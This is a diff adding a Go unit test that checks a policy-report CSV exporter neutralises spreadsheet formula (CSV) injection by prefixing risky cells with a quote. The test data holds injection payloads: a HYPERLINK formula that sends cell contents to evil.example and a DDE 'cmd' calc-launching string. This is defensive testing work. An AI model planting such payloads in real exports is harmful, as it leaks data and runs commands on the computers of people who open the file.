@@ -11,7 +11,14 @@ import (
 	"testing"
 	"time"
 
+	"github.com/go-logr/logr"
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+
 	v1alpha1 "github.com/policyherald/policy-herald/api/v1alpha1"
+	wgpolicyv1alpha2 "github.com/policyherald/policy-herald/api/wgpolicyk8s/v1alpha2"
+	"github.com/policyherald/policy-herald/internal/report"
+	"github.com/policyherald/policy-herald/internal/store"
 )
 
 // exportCases are selections to export, with the visibility they are exported as.
@@ -135,5 +142,55 @@ func TestExportWriteErrors(t *testing.T) {
 	}
 	if err := e.WriteCSV(&bytes.Buffer{}, Everything, Selection{Sort: Sort{By: "age"}}); err == nil {
 		t.Error("a bad selection: no error")
+	}
+}
+
+// TestWriteCSVNeutralisesFormulas: a spreadsheet runs a cell that starts with =, +, -, @, a tab
+// or a carriage return as a formula (CSV injection). Every text field a report's author
+// controls is written with a leading single quote then (OWASP's advice), so it shows as text;
+// the JSON export is data, not a spreadsheet, and keeps the values as they are.
+func TestWriteCSVNeutralisesFormulas(t *testing.T) {
+	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"}
+	at := func(i int) string { return formulas[i%len(formulas)] }
+	rep := &wgpolicyv1alpha2.PolicyReport{ObjectMeta: metav1.ObjectMeta{Namespace: at(0), Name: at(1)},
+		Results: []wgpolicyv1alpha2.PolicyReportResult{{
+			Source: at(2), Policy: at(3), Rule: at(4), Category: at(5), Result: "fail", Severity: "high", Message: at(0),
+			Resources:  []corev1.ObjectReference{{APIVersion: at(1), Kind: at(2), Namespace: at(3), Name: at(4)}},
+			Properties: map[string]string{"=x": at(5)},
+		}}}
+	s := store.New(nil, nil, logr.Discard())
+	s.Put(report.FromPolicyReport(rep))
+	e := New(s)
+	var buf bytes.Buffer
+	if err := e.WriteCSV(&buf, Everything, Selection{}); err != nil {
+		t.Fatal(err)
+	}
+	records, err := csv.NewReader(&buf).ReadAll()
+	if err != nil || len(records) != 2 {
+		t.Fatalf("%d records, %v:\n%s", len(records), err, buf.String())
+	}
+	rows := allRows(t, e, Everything, Selection{})
+	r := rows[0]
+	raw := []string{r.ID, r.Namespace, r.Kind, r.Name, r.APIVersion, r.Policy, r.Rule, r.Status, r.Severity,
+		r.Category, r.Source, r.Message, "", r.ReportKind, r.ReportNamespace, r.ReportName, records[1][16]}
+	neutralised := 0
+	for i, cell := range records[1] {
+		want := raw[i]
+		if want != "" && strings.ContainsRune("=+-@\t\r", rune(want[0])) {
+			want, neutralised = "'"+want, neutralised+1
+		}
+		if cell != want {
+			t.Errorf("column %s = %q, want %q", CSVColumns[i], cell, want)
+		}
+	}
+	if neutralised != 11 {
+		t.Errorf("%d cells started with a formula character, want 11 (the test's report changed?)", neutralised)
+	}
+	var props map[string]string
+	if err := json.Unmarshal([]byte(records[1][16]), &props); err != nil || props["=x"] != at(5) {
+		t.Errorf("properties %q (%v): the JSON object is written as it is", records[1][16], err)
+	}
+	if rows[0].Message != at(0) {
+		t.Errorf("the row's message %q changed", rows[0].Message)
 	}
 }
